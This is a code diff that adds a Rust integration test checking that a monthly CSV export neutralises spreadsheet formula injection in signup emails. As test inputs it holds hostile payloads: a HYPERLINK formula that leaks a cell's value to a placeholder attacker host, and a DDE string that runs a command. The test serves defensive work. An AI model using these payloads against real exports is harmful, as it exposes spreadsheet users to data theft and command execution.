@@ -111,6 +111,47 @@ async fn emails_and_plans_with_commas_quotes_and_line_breaks_are_quoted() {
 }
 
 #[tokio::test]
+async fn emails_that_a_spreadsheet_would_run_as_formulas_come_out_as_text() {
+    let app = spawn_app().await;
+    let formulas = [
+        "=HYPERLINK(\"http://evil.example/?leak=\"&B3,\"Click\")@x.com",
+        "=cmd|'/ccalc'!a0@x.com",
+        "+1+1@x.com",
+        "-2+3@x.com",
+    ];
+    let mut ids = Vec::new();
+    for email in formulas {
+        let res = app
+            .post_json(
+                "/account/v1/signup",
+                &serde_json::json!({"email": email, "password": "correct horse battery"}),
+            )
+            .await;
+        assert_eq!(res.status(), 201, "signup of {email}");
+        let body: serde_json::Value = res.json().await.unwrap();
+        let customer = Customer {
+            account_id: body["account_id"].as_i64().unwrap(),
+            key_id: body["key_id"].as_i64().unwrap(),
+            api_key: body["api_key"].as_str().unwrap().to_owned(),
+            email: email.to_owned(),
+            password: String::new(),
+        };
+        account_calls(&app, &customer, 1, 1, Utc::now()).await;
+        ids.push(customer.account_id);
+    }
+    let month = Utc::now().format("%Y-%m").to_string();
+    let rows = export(&app, &month).await;
+    for (email, id) in formulas.iter().zip(ids) {
+        let row = rows
+            .iter()
+            .find(|row| row[0] == id.to_string())
+            .expect("the account's row");
+        let stored = email.to_lowercase();
+        assert_eq!(row[1], format!("'{stored}"), "the cell starts with a quote");
+    }
+}
+
+#[tokio::test]
 async fn credit_spent_beyond_the_allowance_is_its_own_column() {
     let app = spawn_app_with(|c| c.usage.free_monthly_calls = 2).await;
     let customer = app.signup().await;
